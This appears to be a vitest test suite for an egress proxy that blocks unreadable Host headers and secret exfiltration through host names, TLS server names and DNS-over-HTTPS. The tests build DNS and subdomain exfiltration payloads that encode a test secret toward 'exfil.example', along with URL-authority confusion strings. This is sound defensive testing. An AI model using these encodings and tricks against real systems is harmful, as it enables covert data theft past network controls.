import { describe, expect, it } from "vitest";
import { base32 } from "../../src/shared/dlp/host-forms.js";
import type { PipelockConfigInput } from "../../src/sidecars/pipelock/config.js";
import { dnsQuery } from "../support/sidecars/pipelock-dns-query.js";
import {
  exchangeOn,
  rawExchange,
  startTestProxy,
  startUpstream,
  tlsTunnel,
  usePipelockTestScope,
} from "../support/sidecars/pipelock-proxy-fixture.js";

/** Mixed case and characters no host name holds: only its host forms fit in a name. */
const SECRET = "Zq7+Secret/Value_Kp9=Wm";
const ENV = { AGENT_SECRET: SECRET };
const HEX = Buffer.from(SECRET).toString("hex");
const B32 = base32(Buffer.from(SECRET));
/** A random-looking label that is no known secret. */
const BLOB = "q3x7kd2mzr8vw4jf6tnb";

const scope = usePipelockTestScope();

async function scenario(secure: boolean, extra: Partial<PipelockConfigInput> = {}) {
  const upstream = await startUpstream(scope.cas, secure);
  scope.closeAfter(() => upstream.close());
  const port = upstream.port;
  const started = await startTestProxy(
    scope.cas,
    {
      allow: [`allowed.test:${port}`, `*.wild.test:${port}`],
      dlp: { action: "block", secretEnv: ["AGENT_SECRET"] },
      ...extra,
    },
    ENV,
  );
  scope.closeAfter(() => started.proxy.close());
  const proxyPort = started.proxy.address.port;
  const statusOf = (response: string) => Number(response.split(" ")[1] ?? 0);
  /** One raw request straight to pipelock, as an HTTP proxy client sends it. */
  const plain = async (requestLine: string, headers: [string, string][], body = "") => {
    const head = headers.map(([n, v]) => `${n}: ${v}\r\n`).join("");
    const response = await rawExchange(
      proxyPort,
      Buffer.concat([
        Buffer.from(`${requestLine}\r\n${head}Connection: close\r\n\r\n`, "utf8"),
        Buffer.from(body, "latin1"),
      ]),
    );
    return { status: statusOf(response), response };
  };
  const tunnel = (host: string, servername?: string) =>
    tlsTunnel(proxyPort, `${host}:${port}`, {
      ca: scope.cas.bottle.certPem,
      ...(servername === undefined ? {} : { servername, checkName: false }),
    });
  const connect = async (authority: string) =>
    statusOf(
      await rawExchange(proxyPort, `CONNECT ${authority} HTTP/1.1\r\nHost: ${authority}\r\n\r\n`),
    );
  const noSecretLogged = () => {
    const log = started.audit.raw.join("\n").toLowerCase();
    for (const form of [SECRET.toLowerCase(), HEX, B32.slice(0, 20)]) {
      expect(log).not.toContain(form);
    }
  };
  return { upstream, port, ...started, plain, tunnel, connect, noSecretLogged };
}

/** Host header spellings that do not parse as host[:port], for a target on `port`. */
function unreadableHosts(port: number): string[] {
  return [
    "allowed.test:",
    "allowed.test:0",
    "allowed.test:65536",
    "allowed.test:99999",
    "[allowed.test]",
    `[allowed.test]:${port}`,
    "[::1",
    `allowed .test:${port}`,
    `allowed.test:${port}:${port}`,
    `a@allowed.test:${port}`,
    `%61llowed.test:${port}`,
    `allowed..test:${port}`,
    `allowed.test:+${port}`,
    "",
  ];
}

describe("pipelock: names it cannot read are refused", () => {
  it("refuses a plain-http request whose Host header does not parse, and audits it", async () => {
    const s = await scenario(false);
    const url = `http://allowed.test:${s.port}/escape`;
    for (const host of unreadableHosts(s.port)) {
      const r = await s.plain(`GET ${url} HTTP/1.1`, [["Host", host]]);
      expect(r.status, `Host "${host}": ${r.response}`).toBe(400);
      expect(r.response, host).toContain("is not a host name or IP address with an optional port");
    }
    const missing = await s.plain(`GET ${url} HTTP/1.1`, []);
    expect(missing.status).toBe(400);
    expect(missing.response).toContain("needs a Host header");
    expect(s.upstream.seen).toEqual([]);
    const refusals = s.audit.events.filter((e) => e.rule === "bad-host");
    expect(refusals).toHaveLength(unreadableHosts(s.port).length + 1);
    expect(refusals.every((e) => e.status === 400 && e.decision === "denied")).toBe(true);
  });

  it("refuses a WebSocket upgrade whose Host does not parse, or whose name carries the secret", async () => {
    const s = await scenario(false);
    const upgrade: [string, string][] = [
      ["Upgrade", "websocket"],
      ["Connection", "Upgrade"],
      ["Sec-WebSocket-Key", "dGhlIHNhbXBsZSBub25jZQ=="],
      ["Sec-WebSocket-Version", "13"],
    ];
    const url = `http://allowed.test:${s.port}/escape-ws`;
    for (const host of ["allowed.test:", `a@allowed.test:${s.port}`, "[allowed.test]"]) {
      const r = await s.plain(`GET ${url} HTTP/1.1`, [["Host", host], ...upgrade]);
      expect(r.status, host).toBe(400);
    }
    const secret = `${B32}.wild.test:${s.port}`;
    const r = await s.plain(`GET http://${secret}/escape-ws HTTP/1.1`, [
      ["Host", secret],
      ...upgrade,
    ]);
    expect(r.status).toBe(403);
    expect(s.upstream.seen).toEqual([]);
    expect(s.audit.events.map((e) => e.rule)).toEqual([
      "bad-host",
      "bad-host",
      "bad-host",
      "known-secret",
    ]);
    s.noSecretLogged();
  });

  it("passes the same name with a trailing dot, and refuses another port or host", async () => {
    const s = await scenario(false);
    const url = `http://allowed.test:${s.port}/control`;
    const dotted = await s.plain(`GET ${url} HTTP/1.1`, [["Host", `allowed.test.:${s.port}`]]);
    expect(dotted.status, dotted.response).toBe(200);
    const other = await s.plain(`GET ${url} HTTP/1.1`, [["Host", `other.test:${s.port}`]]);
    expect(other.status).toBe(403);
    const port = await s.plain(`GET ${url} HTTP/1.1`, [["Host", `allowed.test:${s.port + 1}`]]);
    expect(port.status).toBe(403);
    expect(s.upstream.seen.map((r) => r.url)).toEqual(["/control"]);
  });

  it("refuses an absolute URL whose authority a browser would rewrite", async () => {
    const s = await scenario(false);
    const host = `allowed.test:${s.port}`;
    for (const url of [
      `http://a@${host}/escape`,
      `http://%61llowed.test:${s.port}/escape`,
      `http://\uff41llowed.test:${s.port}/escape`,
      "http://allowed.test:/escape",
      "http://allowed.test:0/escape",
      `http://allowed.test:${s.port}\\@other.test/escape`,
      `http://[allowed.test]:${s.port}/escape`,
    ]) {
      const r = await s.plain(`GET ${url} HTTP/1.1`, [["Host", host]]);
      expect([400, 403], `${url}: ${r.response}`).toContain(r.status);
    }
    expect(s.upstream.seen).toEqual([]);
  });

  it("refuses an unreadable Host header inside a tunnel with a 400", async () => {
    const s = await scenario(true);
    for (const host of unreadableHosts(s.port)) {
      const socket = await s.tunnel("allowed.test");
      const r = await exchangeOn(socket, `GET /escape HTTP/1.1\r\nHost: ${host}\r\n\r\n`);
      socket.destroy();
      expect(r.status, `Host "${host}": ${r.body}`).toBe(400);
    }
    expect(s.upstream.seen).toEqual([]);
  });

  it("refuses a CONNECT target that does not parse", async () => {
    const s = await scenario(true);
    for (const authority of [
      "allowed.test",
      "allowed.test:",
      "allowed.test:0",
      "allowed.test:65536",
      `[allowed.test]:${s.port}`,
      `a@allowed.test:${s.port}`,
      `%61llowed.test:${s.port}`,
      "[fe80::1%eth0]:443",
    ]) {
      expect(await s.connect(authority), authority).toBe(400);
    }
    expect(s.proxy.mintedHosts()).toEqual([]);
  });
});

describe("pipelock: secrets in host names", () => {
  const cut = (text: string, size: number) => text.match(new RegExp(`.{1,${size}}`, "g")) ?? [];

  it("refuses the secret in a CONNECT target under a wildcard, in every form a name holds", async () => {
    const s = await scenario(true);
    const names = [
      `${SECRET.toLowerCase().replace(/[^a-z0-9_-]/g, "")}.wild.test`,
      `${B32}.wild.test`,
      `${B32.toUpperCase()}.wild.test`,
      `${cut(B32, 12).join(".")}.wild.test`,
      `${cut(HEX, 30).join(".")}.wild.test`,
      `${base32(Buffer.from(`x${SECRET}`))}.wild.test`,
    ];
    for (const name of names) {
      expect(await s.connect(`${name}:${s.port}`), name).toBe(403);
    }
    const blocks = s.audit.events.filter((e) => e.decision === "dlp_block");
    expect(blocks).toHaveLength(names.length);
    expect(blocks.every((e) => e.host === "[redacted]")).toBe(true);
    expect(s.proxy.mintedHosts()).toEqual([]);
    s.noSecretLogged();
  });

  it("refuses the secret in a plain-http URL and Host header", async () => {
    const s = await scenario(false);
    const host = `${B32}.wild.test:${s.port}`;
    const r = await s.plain(`GET http://${host}/escape HTTP/1.1`, [["Host", host]]);
    expect(r.status, r.response).toBe(403);
    expect(r.response).toContain("carries what looks like a secret");
    expect(r.response.toLowerCase()).not.toContain(B32);
    // Refused before the host is checked (the Host does not parse): the log still holds no secret.
    const early = await s.plain(`GET http://${host}/escape HTTP/1.1`, [["Host", "x:"]]);
    expect(early.status).toBe(400);
    expect(s.upstream.seen).toEqual([]);
    s.noSecretLogged();
  });

  it("refuses a TLS server name that carries the secret, and never echoes it", async () => {
    const s = await scenario(true);
    const socket = await s.tunnel("control.wild.test", `${B32}.wild.test`);
    const r = await exchangeOn(
      socket,
      `GET /escape HTTP/1.1\r\nHost: control.wild.test:${s.port}\r\n\r\n`,
    );
    socket.destroy();
    expect(r.status).toBe(403);
    expect(r.body.toLowerCase()).not.toContain(B32);
    expect(s.upstream.seen).toEqual([]);
    s.noSecretLogged();
  });
});

describe("pipelock: labels under a wildcard", () => {
  it("refuses a random or overlong label and says how to ask; passes a name-like one", async () => {
    const s = await scenario(true);
    expect(await s.connect(`${BLOB}.wild.test:${s.port}`)).toBe(403);
    expect(await s.connect(`${"objects".repeat(6)}.wild.test:${s.port}`)).toBe(403);
    // Not under the wildcard: refused by the allowlist, and told inside the tunnel.
    expect(await s.connect(`${BLOB}.allowed.test:${s.port}`)).toBe(200);
    const socket = await s.tunnel("us-east-1.my-bucket-name.wild.test");
    const ok = await exchangeOn(
      socket,
      `GET /control HTTP/1.1\r\nHost: us-east-1.my-bucket-name.wild.test:${s.port}\r\n\r\n`,
    );
    socket.destroy();
    expect(ok.status).toBe(200);
    expect(s.audit.events.map((e) => e.rule).slice(0, 3)).toEqual([
      "wildcard-label-random",
      "wildcard-label-length",
      "not-allowlisted",
    ]);
  });

  it("explains the refusal, and follows the bottle's bound", async () => {
    const s = await scenario(false, { wildcardLabels: { maxLength: 10, randomMinLength: 30 } });
    const host = `${BLOB}.wild.test:${s.port}`;
    const r = await s.plain(`GET http://${host}/escape HTTP/1.1`, [["Host", host]]);
    expect(r.status).toBe(403);
    expect(r.response).toContain(
      `"${BLOB}.wild.test", allowed only through "*.wild.test:${s.port}"`,
    );
    expect(r.response).toContain("longer than this bottle's bound of 10");
    expect(r.response).toContain('add "q3x7kd2mzr8vw4jf6tnb.wild.test" to egress.allow');
    expect(r.response).toContain("egress.wildcard_labels");
    const short = `abcdefgh.wild.test:${s.port}`;
    expect((await s.plain(`GET http://${short}/c HTTP/1.1`, [["Host", short]])).status).toBe(200);
  });
});

describe("pipelock: DNS-over-HTTPS", () => {
  const dnsPost = (host: string, body: Buffer, type = "application/dns-message") =>
    [
      `POST http://${host}/dns-query HTTP/1.1`,
      [
        ["Host", host],
        ["Content-Type", type],
        ["Content-Length", String(body.length)],
      ] as [string, string][],
      body.toString("latin1"),
    ] as const;

  it("refuses a query whose name carries the secret, by POST, GET and the JSON API", async () => {
    const s = await scenario(false);
    const host = `allowed.test:${s.port}`;
    const name = `${B32}.exfil.example`;
    const query = dnsQuery([name], true);
    const results = [
      await s.plain(...dnsPost(host, query)),
      await s.plain(`GET http://${host}/dns-query?dns=${query.toString("base64url")} HTTP/1.1`, [
        ["Host", host],
        ["Accept", "application/dns-message"],
      ]),
      await s.plain(`GET http://${host}/resolve?name=${name}&type=A HTTP/1.1`, [
        ["Host", host],
        ["Accept", "application/dns-json"],
      ]),
      await s.plain(`GET http://${host}/anything?dns=${query.toString("base64url")} HTTP/1.1`, [
        ["Host", host],
      ]),
    ];
    expect(
      results.map((r) => r.status),
      results.map((r) => r.response).join("\n"),
    ).toEqual([403, 403, 403, 403]);
    expect(s.upstream.seen).toEqual([]);
    expect(s.audit.events.every((e) => e.location === "dns-question")).toBe(true);
    s.noSecretLogged();
  });

  it("refuses a random or oddly spelled name asked by DoH, and a query it cannot read", async () => {
    const s = await scenario(false);
    const host = `allowed.test:${s.port}`;
    const header = Buffer.from([0, 1, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]);
    const loop = Buffer.concat([header, Buffer.from([1, 97, 0xc0, 12, 0, 1, 0, 1])]);
    const random = await s.plain(...dnsPost(host, dnsQuery([`${BLOB}.exfil.example`])));
    const spelled = await s.plain(...dnsPost(host, dnsQuery(["a+b/c=.exfil.example"])));
    const malformed = await s.plain(...dnsPost(host, loop));
    const badGet = await s.plain(`GET http://${host}/dns-query?dns=!!! HTTP/1.1`, [["Host", host]]);
    expect([random.status, spelled.status, malformed.status, badGet.status]).toEqual([
      403, 403, 400, 400,
    ]);
    expect(malformed.response).toContain("compression pointer");
    expect(random.response).toContain(`the name "${BLOB}.exfil.example" asked of a DNS-over-HTTPS`);
    expect(random.response).toContain("If the bottle needs such names resolved");
    expect(random.response).not.toContain("egress.allow ");
    expect(s.upstream.seen).toEqual([]);
    expect(s.audit.events.map((e) => e.rule)).toEqual([
      "dns-label-random",
      "dns-label-characters",
      "dns-malformed",
      "dns-malformed",
    ]);
  });

  it("passes an ordinary DoH query (the control)", async () => {
    const s = await scenario(false);
    const host = `allowed.test:${s.port}`;
    const r = await s.plain(...dnsPost(host, dnsQuery(["www.example.com"], true)));
    expect(r.status, r.response).toBe(200);
    const get = await s.plain(`GET http://${host}/resolve?name=us-east-1.example.com HTTP/1.1`, [
      ["Host", host],
      ["Accept", "application/dns-json"],
    ]);
    expect(get.status).toBe(200);
    // A `dns` parameter to an endpoint that is no resolver is just a parameter.
    const api = await s.plain(`GET http://${host}/api/zones?dns=cloudflare HTTP/1.1`, [
      ["Host", host],
    ]);
    expect(api.status).toBe(200);
    expect(s.upstream.seen).toHaveLength(3);
  });
});
